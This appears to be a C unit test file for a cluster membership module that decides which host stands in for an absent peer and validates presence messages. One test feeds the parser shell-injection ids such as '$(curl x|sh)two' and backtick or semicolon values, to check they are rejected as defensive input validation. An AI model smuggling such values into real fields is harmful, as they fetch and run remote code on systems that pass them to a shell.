/* test_members_away.c - a host of a division is away: which of the others stands in for it. */
#include "peers/members.h"

#include "test.h"

#include "base/limits.h"

#include <stdio.h>
#include <string.h>

enum { NOW = 1000, LATER = NOW + STAND_IN_MS };

static struct service_conf services[] = {
    {.name = "seats", .key = {RULE_JSON, "/event_id", 0}, .ordered = true, .share = true},
    {.name = "mails", .share = true},
};

static void open_conf(struct conf *conf, uint16_t place, uint16_t count) {
    *conf = (struct conf){.services = services, .service_count = 2};
    conf->hosts.group = "default";
    conf->hosts.share = (struct division){.count = count, .place = place};
}

static struct presence *presence_of(const struct conf *conf, const char *host,
                                    const char *client_id) {
    static const bool runs[] = {true, true};
    static const uint16_t numbers[] = {4, 7};
    const struct presence_facts facts = {.host = host,
                                         .id = "id-me",
                                         .client_id = client_id,
                                         .mark = "ours",
                                         .runs = runs,
                                         .numbers = numbers,
                                         .since_ms = 500};
    struct presence *p = NULL;
    assert_int_equal(presence_own(&p, conf, &facts), 0);
    return p;
}

static struct members *members_of(uint16_t place, uint16_t count) {
    struct conf conf;
    struct members *m = NULL;
    open_conf(&conf, place, count);
    assert_int_equal(members_new(&m, presence_of(&conf, "me", "client-me")), 0);
    return m;
}

/* What another host says. */
struct other {
    const char *host, *state, *client_id, *services, *numbers, *more;
    unsigned count, place;
    bool kept, nobody; /* nobody may stand in for it: it names no client id */
};

static const char both[] = "\"seats\":1,\"mails\":2";

static void take(struct members *m, struct other o, int64_t now_ms) {
    char topic[64];
    char text[1000];
    char client[300] = "";
    struct report r = {""};
    const char *host = o.host == NULL ? "two" : o.host;
    if (!o.nobody) {
        (void)snprintf(client, sizeof client, "\"client_id\":\"%s%s\",",
                       o.client_id == NULL ? "client-" : "",
                       o.client_id == NULL ? host : o.client_id);
    }
    (void)snprintf(topic, sizeof topic, "zingq/hosts/default/%s", host);
    (void)snprintf(text, sizeof text,
                   "{\"host\":\"%s\",\"id\":\"id-%s\",\"group\":\"default\",\"count\":%u,"
                   "\"this\":%u,\"state\":\"%s\",%s%s\"since\":1,\"services\":{%s},"
                   "\"numbers\":{%s}}",
                   host, host, o.count == 0 ? 3 : o.count, o.place == 0 ? 2 : o.place,
                   o.state == NULL ? "gone" : o.state, client, o.more == NULL ? "" : o.more,
                   o.services == NULL ? "" : o.services, o.numbers == NULL ? both : o.numbers);
    unsigned news = members_take(m, slice_of(topic), slice_of(text), o.kept, now_ms, &r);
    assert_string_equal(r.text, "");
    assert_int_equal(news & MEMBERS_CHANGED, MEMBERS_CHANGED);
}

static bool stands_in(const struct members *m, int64_t now_ms) {
    return members_stood_in_for(m, 2, now_ms) != NULL;
}

/* --- when --- */

static void a_host_that_is_gone_for_a_while_is_stood_in_for(void **state) {
    (void)state;
    struct members *m = members_of(1, 3);
    take(m, (struct other){.state = "up"}, NOW);
    assert_false(stands_in(m, LATER));
    take(m, (struct other){.state = "gone"}, NOW);
    assert_false(stands_in(m, LATER - 1));
    assert_int_equal(members_next_ms(m, NOW), LATER);
    assert_true(stands_in(m, LATER));
    assert_string_equal(members_stood_in_for(m, 2, LATER)->client_id, "client-two");
    assert_int_equal(presence_number_of(members_stood_in_for(m, 2, LATER), "mails")->number, 2);
    assert_null(members_stood_in_for(m, 3, LATER)); /* never heard of */
    members_free(m);
}

static void what_the_broker_kept_of_it_again_does_not_begin_the_wait_anew(void **state) {
    (void)state;
    struct members *m = members_of(1, 3);
    take(m, (struct other){.kept = true}, NOW);
    members_begin(m);
    take(m, (struct other){.kept = true}, LATER - 1);
    members_settle(m);
    assert_true(stands_in(m, LATER));
    members_free(m);
}

static void one_that_is_silent_is_stood_in_for_and_no_more_when_it_speaks(void **state) {
    (void)state;
    struct members *m = members_of(1, 3);
    int64_t silent_ms = NOW + MEMBER_ANSWER_MS;
    take(m, (struct other){.state = "up", .kept = true}, NOW);
    members_asked(m, NOW);
    assert_false(stands_in(m, silent_ms + STAND_IN_MS - 1));
    assert_int_equal(members_next_ms(m, silent_ms), silent_ms + STAND_IN_MS);
    assert_true(stands_in(m, silent_ms + STAND_IN_MS));
    take(m, (struct other){.state = "joining"}, silent_ms + STAND_IN_MS);
    assert_false(stands_in(m, silent_ms + STAND_IN_MS));
    members_free(m);
}

static void where_another_host_has_its_number_nobody_stands_in(void **state) {
    (void)state;
    struct members *m = members_of(1, 3);
    take(m, (struct other){.host = "old"}, NOW);
    take(m, (struct other){.host = "two", .state = "up"}, NOW);
    assert_false(stands_in(m, LATER));
    members_free(m);
}

/* --- who --- */

static void of_those_that_are_up_the_lowest_number_stands_in(void **state) {
    (void)state;
    struct members *m = members_of(3, 3);
    take(m, (struct other){.place = 2}, NOW);
    take(m, (struct other){.host = "one", .place = 1, .state = "up"}, NOW);
    assert_false(stands_in(m, LATER));
    take(m, (struct other){.host = "one", .place = 1, .state = "joining"}, NOW);
    assert_true(stands_in(m, LATER));
    take(m, (struct other){.host = "one", .place = 1, .state = "gone"}, NOW);
    assert_true(stands_in(m, LATER));
    assert_non_null(members_stood_in_for(m, 1, LATER)); /* for both of them */
    members_free(m);
}

static void who_lacks_a_service_or_holds_one_is_passed_over(void **state) {
    (void)state;
    static const struct other unfit[] = {
        {.numbers = "\"seats\":1"},
        {.services = "\"seats\":{\"held\":true},\"mails\":{}"},
        {.nobody = true}, /* an earlier version */
    };
    for (size_t i = 0; i < sizeof unfit / sizeof *unfit; i++) {
        struct members *m = members_of(3, 3);
        struct other one = unfit[i];
        one.host = "one";
        one.place = 1;
        one.state = "up";
        take(m, (struct other){.place = 2}, NOW);
        take(m, one, NOW);
        assert_true(stands_in(m, LATER));
        members_free(m);
    }
}

static void this_host_does_not_with_a_service_too_few_or_held(void **state) {
    (void)state;
    struct members *m = members_of(1, 3);
    take(m, (struct other){.numbers = "\"other\":1"}, NOW);
    assert_false(stands_in(m, LATER));
    take(m, (struct other){.numbers = "\"seats\":1"}, NOW);
    assert_true(stands_in(m, LATER));
    members_hold(m, 1, true);
    assert_false(stands_in(m, LATER));
    members_hold(m, 1, false);
    members_say(m, PRESENCE_JOINING, false);
    assert_false(stands_in(m, LATER));
    members_free(m);
}

static void nobody_stands_in_for_a_host_of_another_division_or_one_that_forbids_it(void **state) {
    (void)state;
    static const struct other others[] = {
        {.count = 2},
        {.nobody = true},
    };
    for (size_t i = 0; i < sizeof others / sizeof *others; i++) {
        struct members *m = members_of(1, 3);
        take(m, others[i], NOW);
        assert_false(stands_in(m, LATER));
        assert_int_equal(members_next_ms(m, NOW), INT64_MAX);
        members_free(m);
    }
}

static void nobody_that_is_there_is_cut_off_under_its_client_id(void **state) {
    (void)state;
    static const char *const taken[] = {"client-me", "client-me-out", "client-three"};
    for (size_t i = 0; i < sizeof taken / sizeof *taken; i++) {
        struct members *m = members_of(1, 3);
        take(m, (struct other){.host = "three", .place = 3, .state = "up"}, NOW);
        take(m, (struct other){.client_id = taken[i]}, NOW);
        assert_false(stands_in(m, LATER));
        take(m, (struct other){.client_id = "client-m"}, NOW);
        assert_true(stands_in(m, LATER));
        members_free(m);
    }
}

/* --- saying it --- */

static void who_stands_in_says_so_and_others_know(void **state) {
    (void)state;
    struct members *m = members_of(1, 3);
    take(m, (struct other){.place = 2}, NOW);
    assert_int_equal(members_stood_in_by(m, 0, NOW), 0);
    members_stand_in(m, 2, true);
    assert_int_equal(members_stood_in_by(m, 0, NOW), 1);
    members_stand_in(m, 2, false);
    assert_int_equal(members_stood_in_by(m, 0, NOW), 0);
    take(m,
         (struct other){.host = "uno", .place = 3, .state = "up", .more = "\"stands_in_for\":[2],"},
         NOW);
    assert_int_equal(members_stood_in_by(m, 0, NOW), 3);
    take(m, (struct other){.place = 2, .state = "up"}, NOW);
    assert_int_equal(members_stood_in_by(m, 0, NOW), 0);
    members_free(m);
}

/* --- what a host says of itself --- */

static void a_host_that_is_gone_says_what_is_needed_to_stand_in_for_it(void **state) {
    (void)state;
    struct conf conf;
    struct buf text;
    struct presence *read = NULL;
    struct report r;
    open_conf(&conf, 2, 3);
    struct presence *p = presence_of(&conf, "two", "client \"2\"");
    p->state = PRESENCE_GONE;
    p->stands_in_for = 5;
    buf_init(&text, 4096);
    assert_int_equal(presence_write(p, &text), 0);
    assert_null(strstr(buf_str(&text), "stands_in_for"));
    assert_int_equal(
        presence_read(&read, slice_of("zingq/hosts/default/two"), buf_slice(&text), &r), 0);
    assert_string_equal(read->client_id, "client \"2\"");
    assert_int_equal(read->service_count, 0);
    assert_int_equal(presence_number_of(read, "seats")->number, 4);
    assert_int_equal(presence_number_of(read, "mails")->number, 7);
    presence_free(read);
    buf_reset(&text);
    p->state = PRESENCE_UP;
    assert_int_equal(presence_write(p, &text), 0);
    assert_int_equal(
        presence_read(&read, slice_of("zingq/hosts/default/two"), buf_slice(&text), &r), 0);
    assert_int_equal(read->stands_in_for, 5);
    presence_free(read);
    presence_free(p);
    buf_clear(&text);
}

static void who_is_not_dealt_messages_names_no_client_id(void **state) {
    (void)state;
    struct conf conf;
    open_conf(&conf, 1, 1);
    struct presence *alone = presence_of(&conf, "one", "c");
    assert_null(alone->client_id);
    presence_free(alone);
    open_conf(&conf, 1, 3);
    conf.broker.alone = true;
    struct presence *everything = presence_of(&conf, "one", "c");
    assert_null(everything->client_id);
    presence_free(everything);
    open_conf(&conf, 1, 3);
    services[1].share = false; /* its copies wait for it with the rest */
    struct presence *own_copies = presence_of(&conf, "one", "c");
    services[1].share = true;
    assert_string_equal(own_copies->client_id, "c");
    assert_int_equal(own_copies->service_count, 1);
    assert_int_equal(presence_number_of(own_copies, "mails")->number, 7);
    presence_free(own_copies);
}

static void what_cannot_be_is_garbage(void **state) {
    (void)state;
    static const char *const wrong[] = {
        "\"client_id\":7,",
        "\"client_id\":\"\",",
        "\"stands_in_for\":2,",
        "\"stands_in_for\":[0],",
        "\"stands_in_for\":[4],",
        "\"stands_in_for\":[\"2\"],",
        "\"numbers\":{\"seats\":-1},",
        "\"numbers\":[],",
        "\"numbers\":{\"a/b\":1},",
    };
    for (size_t i = 0; i < sizeof wrong / sizeof *wrong; i++) {
        char text[400];
        struct presence *p = NULL;
        struct report r;
        (void)snprintf(text, sizeof text,
                       "{\"host\":\"two\",\"id\":\"x\",\"group\":\"default\",\"count\":3,%s"
                       "\"this\":2,\"state\":\"up\",\"since\":1}",
                       wrong[i]);
        assert_int_equal(presence_read(&p, slice_of("zingq/hosts/default/two"), slice_of(text), &r),
                         ERR_INVALID);
    }
}

static void an_id_that_a_shell_would_run_is_garbage(void **state) {
    (void)state;
    static const char *const ids[] = {"$(curl x|sh)two", "a b", "`two`", "x;y", "a/b"};
    for (size_t i = 0; i < sizeof ids / sizeof *ids; i++) {
        char text[400];
        struct presence *p = NULL;
        struct report r;
        (void)snprintf(text, sizeof text,
                       "{\"host\":\"two\",\"id\":\"%s\",\"group\":\"default\",\"count\":1,"
                       "\"this\":1,\"state\":\"gone\",\"since\":1}",
                       ids[i]);
        assert_int_equal(presence_read(&p, slice_of("zingq/hosts/default/two"), slice_of(text), &r),
                         ERR_INVALID);
        assert_non_null(strstr(r.text, "\"id\""));
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_host_that_is_gone_for_a_while_is_stood_in_for),
        cmocka_unit_test(what_the_broker_kept_of_it_again_does_not_begin_the_wait_anew),
        cmocka_unit_test(one_that_is_silent_is_stood_in_for_and_no_more_when_it_speaks),
        cmocka_unit_test(where_another_host_has_its_number_nobody_stands_in),
        cmocka_unit_test(of_those_that_are_up_the_lowest_number_stands_in),
        cmocka_unit_test(who_lacks_a_service_or_holds_one_is_passed_over),
        cmocka_unit_test(this_host_does_not_with_a_service_too_few_or_held),
        cmocka_unit_test(nobody_stands_in_for_a_host_of_another_division_or_one_that_forbids_it),
        cmocka_unit_test(nobody_that_is_there_is_cut_off_under_its_client_id),
        cmocka_unit_test(who_stands_in_says_so_and_others_know),
        cmocka_unit_test(a_host_that_is_gone_says_what_is_needed_to_stand_in_for_it),
        cmocka_unit_test(who_is_not_dealt_messages_names_no_client_id),
        cmocka_unit_test(what_cannot_be_is_garbage),
        cmocka_unit_test(an_id_that_a_shell_would_run_is_garbage),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
